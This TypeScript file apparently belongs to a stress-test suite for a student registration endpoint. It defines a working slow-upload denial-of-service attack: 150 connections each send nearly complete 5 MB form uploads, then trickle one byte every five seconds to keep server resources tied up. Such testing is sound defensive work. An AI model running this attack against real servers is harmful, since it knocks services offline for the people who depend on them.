import { createRegistrationFields, encodeForm } from '../../registration-form.ts'
import type { Attack } from '../attack.ts'
import { encodeRequest, holdOpen } from '../sockets.ts'

const fileBytes = 5 * 1024 * 1024 - 1
const missingBytes = 64 * 1024
const dribbleEveryMs = 5_000

/** Each sends two pictures but for the last 64 KB, of which a byte comes every five seconds. */
export const halfSentUploads: Attack = {
  summary: '150 registrations with two 5 MB pictures that never end',
  async prepare(target) {
    const picture = Buffer.alloc(fileBytes, 'x')
    const { type, body } = await encodeForm(createRegistrationFields('half@example.com'), {
      aadharFront: picture,
      aadharBack: picture,
    })
    const whole = encodeRequest({ path: '/api/students/register', type, body })
    const partial = whole.subarray(0, whole.length - missingBytes)
    return (tally, signal) =>
      holdOpen(
        target,
        {
          connections: 150,
          batchSize: 10,
          onConnect(socket) {
            socket.write(partial)
            const dribbleTimer = setInterval(() => socket.write('x'), dribbleEveryMs)
            socket.once('close', () => clearInterval(dribbleTimer))
            socket.once('data', () => socket.destroy())
          },
        },
        { tally, signal },
      )
  },
}
